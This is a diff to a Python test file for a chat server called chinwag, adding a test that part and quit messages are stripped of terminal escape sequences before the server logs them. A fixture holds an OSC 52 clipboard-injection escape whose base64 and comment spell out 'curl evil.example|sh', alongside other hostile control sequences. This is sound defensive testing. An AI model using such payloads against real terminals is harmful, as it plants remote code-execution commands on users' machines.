@@ -10,12 +10,14 @@ from __future__ import annotations
 
 import asyncio
 import re
+import signal
 
 from chinwag.core.events import Message
 from chinwag.transport.server import Server
 from tests.conftest import IrcClient, LineClient
 from tests.hostile.bystander import Bystander
 from tests.hostile.test_hostile import irc_client, serving, text_client
+from tests.test_cli import start
 from tests.unsafe import terminal_violations, text_violations
 
 OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"  # "set the clipboard to: curl evil.example|sh"
@@ -286,3 +288,45 @@ async def test_history_from_the_store_is_cleaned_on_the_way_out() -> None:
         assert_all_clean([tv], [iv])
         for c in (tv, iv, b):
             await c.close()
+
+
+async def test_the_server_log_carries_no_escape_sequence_to_the_operators_terminal() -> None:
+    """Part and quit reasons are logged at INFO: the person reading the log is a terminal too."""
+    proc, _ = await start("--db", ":memory:")
+    try:
+        assert proc.stderr is not None
+        log: list[str] = []
+
+        async def log_line(fragment: str) -> str:
+            while True:
+                raw = await asyncio.wait_for(proc.stderr.readline(), 10)
+                assert raw, "the server exited"
+                log.append(raw.decode())
+                if fragment in log[-1]:
+                    return log[-1].rstrip("\n")
+
+        port = int((await log_line("irc listener on")).rsplit(":", 1)[1])
+        b = await Bystander.join(port)
+        b.start()
+        r, w = await asyncio.open_connection("127.0.0.1", port)
+        evil = IrcClient(r, w)
+        await evil.register("evil")
+        await evil.send("JOIN #lobby")
+        await evil.expect_cmd("366")
+        await evil.send(f"PART #lobby :see{OSC52} you{CSI} later\u202e")
+        # What is left of a sequence is inert text: the log shows someone tried.
+        assert (await log_line("evil left #lobby")).endswith(
+            "chinwag.server: evil left #lobby (see]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g= you[2J[31m later)"
+        )
+        await evil.send(f"QUIT :gone{OSC52}\x9b2J")
+        assert (await log_line("evil left (")).endswith(
+            "chinwag.server: evil left (gone]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=2J)"
+        )
+        rtt = await b.stop()
+        rtt.assert_served()
+        assert [line for line in log if terminal_violations(line.rstrip("\n"))] == []
+        await evil.close()
+        await b.close()
+    finally:
+        proc.send_signal(signal.SIGTERM)
+        assert await proc.wait() == 0
